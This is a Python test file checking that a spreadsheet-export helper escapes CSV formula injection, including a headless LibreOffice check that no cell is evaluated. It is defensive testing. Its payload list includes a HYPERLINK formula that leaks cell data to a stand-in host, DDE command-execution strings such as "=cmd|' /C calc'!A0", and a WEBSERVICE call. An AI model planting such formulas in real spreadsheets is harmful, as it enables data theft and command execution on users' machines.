"""No cell of a table that Weilu writes is a formula, in the eyes of a reader or of LibreOffice."""

import csv
import re
import shutil
import subprocess

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from tests.effort import examples

from weilu.connect.spreadsheets import as_written, harmless

SIGNS = "=+-@\t\r＝＋－＠"
FORMULAS = [
    *(f"{sign}1+1" for sign in SIGNS),
    '=HYPERLINK("http://elsewhere.example/?"&A1,"围炉")',
    "=cmd|' /C calc'!A0",
    "@SUM(1;2)",
    "'=1+1",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("a";"b";"c")',
    '=WEBSERVICE("http://elsewhere.example")',
]
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
#: Comma, quotes, UTF-8, from the first line; the last token has formulas evaluated.
READING = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"


@example("+")
@example("''=1")
@given(st.text(alphabet=f"{SIGNS}'1a,.\n ", max_size=6))
@settings(max_examples=examples(300))
def test_any_text_comes_back_as_it_was_written(text):
    cell = harmless(text)

    assert as_written(cell) == text
    assert not cell.startswith(tuple(SIGNS)) or re.fullmatch(r"[+-]\d+([.,]\d+)?", cell)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_is_text(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not on this machine")
def test_libreoffice_evaluates_no_cell(tmp_path):
    table = tmp_path / "table.csv"
    with table.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([harmless(text)] for text in FORMULAS)

    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    options = ["--headless", f"--infilter={READING}", "--convert-to", "fods"]
    subprocess.run(
        [str(SOFFICE), profile, *options, "--outdir", str(tmp_path), str(table)],
        check=True,
        capture_output=True,
        timeout=180,
    )

    saved = (tmp_path / "table.fods").read_text("utf-8")
    assert "HYPERLINK" in saved
    assert "table:formula" not in saved
